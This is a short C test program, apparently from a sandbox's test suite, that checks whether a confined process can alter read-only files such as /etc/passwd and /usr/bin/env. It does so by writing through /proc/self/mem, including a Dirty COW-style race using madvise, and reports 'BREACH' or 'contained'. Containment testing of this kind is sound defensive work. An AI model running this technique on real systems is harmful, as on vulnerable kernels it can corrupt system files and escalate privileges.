// attack: writes its own read-only maps through /proc/self/mem, hoping to change the shared files
// outcome: ok signaled
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static const char* const files[] = {"/usr/bin/env", "/usr/bin/true", "/usr/lib/os-release",
                                    "/etc/passwd", "/box/program"};

int main(void) {
    const int memory = open("/proc/self/mem", O_RDWR);
    for (int i = 0; i < 5; ++i) {
        char before[4], after[4];
        const int file = open(files[i], O_RDONLY);
        if (pread(file, before, 4, 0) != 4) continue;
        char* shared = mmap(0, 4096, PROT_READ, MAP_SHARED, file, 0);
        char* own = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
        for (int round = 0; round < 500; ++round) {  // the second way is Dirty COW's
            pwrite(memory, "oops", 4, (off_t)shared);
            pwrite(memory, "oops", 4, (off_t)own);
            madvise(own, 4096, MADV_DONTNEED);
        }
        pread(file, after, 4, 0);
        if (memcmp(before, after, 4) != 0) dprintf(1, "BREACH changed %s\n", files[i]);
        if (mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0 && access(files[i], W_OK) != 0)
            dprintf(1, "BREACH may write a read-only map\n");
        close(file);
    }
    dprintf(1, "contained\n");
    return 0;
}
